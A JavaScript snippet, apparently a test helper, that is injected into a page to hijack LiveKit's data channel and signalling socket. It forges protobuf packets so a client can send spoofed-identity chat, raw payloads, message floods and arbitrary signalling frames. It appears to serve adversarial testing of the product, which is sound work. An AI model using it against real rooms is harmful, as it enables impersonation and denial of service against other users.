// What somebody with a changed client can do: say anything on the lines that their browser has.
// Put into the page before the product's own code; keeps the channel for reliable data and the
// signalling socket, and writes packets of LiveKit's protocol by hand (models.proto, rtc.proto).
(() => {
  const channels = [];
  const sockets = [];
  const make = RTCPeerConnection.prototype.createDataChannel;
  RTCPeerConnection.prototype.createDataChannel = function (label, ...rest) {
    const made = make.call(this, label, ...rest);
    if (label === '_reliable') channels.push(made);
    return made;
  };
  const Socket = globalThis.WebSocket;
  globalThis.WebSocket = class extends Socket {
    constructor(address, ...rest) {
      super(address, ...rest);
      if (String(address).includes('/rtc')) sockets.push(this);
    }
  };

  const bytesOf = (text) => new TextEncoder().encode(text);
  const varint = (number) => {
    const bytes = [];
    for (let left = number; ; left = Math.floor(left / 128)) {
      if (left < 128) return [...bytes, left];
      bytes.push((left % 128) + 128);
    }
  };
  const field = (number, bytes) => [...varint(number * 8 + 2), ...varint(bytes.length), ...bytes];

  /** A DataPacket: user 2 (payload 2, topic 4), participant_identity 4, sequence 16. */
  const packet = (text, { identity = '', sequence, topic = 'pattino.together' }) => {
    const user = [...field(2, bytesOf(text)), ...field(4, bytesOf(topic)), ...field(5, bytesOf(identity))];
    return new Uint8Array([
      ...field(2, user),
      ...field(4, bytesOf(identity)),
      ...varint(16 * 8),
      ...varint(sequence),
    ]);
  };

  let sequence = 100_000;
  const send = (text, given = {}) => {
    sequence += 1;
    channels.at(-1).send(packet(text, { sequence, ...given }));
  };

  globalThis.hostile = {
    say: (text, identity) => send(JSON.stringify({ kind: 'chat', text }), { identity }),
    raw: (text) => send(text),
    /** Messages at this pace; gives how many went out. */
    flood: (perSecond, seconds, long) =>
      new Promise((done) => {
        const ends = performance.now() + seconds * 1000;
        const began = performance.now();
        let count = 0;
        const timer = setInterval(() => {
          const due = ((performance.now() - began) / 1000) * perSecond;
          while (count < due && channels.at(-1).bufferedAmount < 4_000_000) {
            count += 1;
            send(JSON.stringify({ kind: 'chat', text: `flood ${count} ${'x'.repeat(long)}` }));
          }
          if (performance.now() < ends) return;
          clearInterval(timer);
          done(count);
        }, 10);
      }),
    /** One request on the signalling line, as it is. */
    signal: (base64) => sockets.at(-1).send(Uint8Array.from(atob(base64), (each) => each.charCodeAt(0))),
  };
})();
